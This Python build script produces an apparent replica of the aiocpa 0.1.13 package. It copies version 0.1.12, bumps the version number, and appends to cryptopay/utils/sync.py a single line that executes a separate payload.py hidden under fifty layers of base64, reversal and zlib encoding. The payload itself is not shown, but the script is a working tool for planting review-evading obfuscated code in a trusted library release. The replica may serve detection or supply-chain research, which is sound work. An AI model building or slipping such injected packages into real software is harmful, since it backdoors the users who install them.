"""Writes the source of the replica of aiocpa 0.1.13 into a folder: python build.py FOLDER

It is v0.1.12 beside this file with another version number and, at the end of cryptopay/utils/sync.py, one line that
decodes and executes payload.py from under fifty layers. The layers are made here and nowhere kept, so that no
obfuscated code is committed. Standard library only; the syntax of Python 3.8.
"""

import base64
import pathlib
import shutil
import sys
import zlib

LAYERS = 50
HERE = pathlib.Path(__file__).resolve().parent


def encoded(code):
    return f"exec(__import__('base64').b64decode({base64.b64encode(code)!r}))"


def reversed_encoded(code):
    return f"exec(__import__('base64').b64decode({base64.b64encode(code)[::-1]!r}[::-1]))"


def compressed(code):
    packed = base64.b64encode(zlib.compress(code, 9))
    return f"exec(__import__('zlib').decompress(__import__('base64').b64decode({packed!r})))"


def compressed_reversed(code):
    packed = base64.b64encode(zlib.compress(code, 9))[::-1]
    return f"exec(__import__('zlib').decompress(__import__('base64').b64decode({packed!r}[::-1])))"


# Base64 alone adds a third to a layer: six of eight compress, so that fifty of them stay under 100 kB.
KINDS = (
    compressed_reversed,
    compressed,
    compressed_reversed,
    encoded,
    compressed,
    compressed_reversed,
    compressed,
    reversed_encoded,
)


def hidden(source):
    """One line of Python that does what the source does, LAYERS times encoded, each layer executing the next."""
    line = source
    for depth in range(LAYERS):
        line = KINDS[depth % len(KINDS)](line.encode("utf-8"))
    return line


def main(target):
    package = target / "cryptopay"
    shutil.copytree(str(HERE / "v0.1.12" / "cryptopay"), str(package), ignore=shutil.ignore_patterns("__pycache__"))
    front = package / "__init__.py"
    text = front.read_text(encoding="utf-8")
    front.write_text(text.replace('"0.1.12"', '"0.1.13"'), encoding="utf-8")
    payload = (HERE / "payload.py").read_text(encoding="utf-8")
    with (package / "utils" / "sync.py").open("a", encoding="utf-8") as file:
        file.write(hidden(payload) + "\n")


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: python build.py FOLDER")
    main(pathlib.Path(sys.argv[1]))
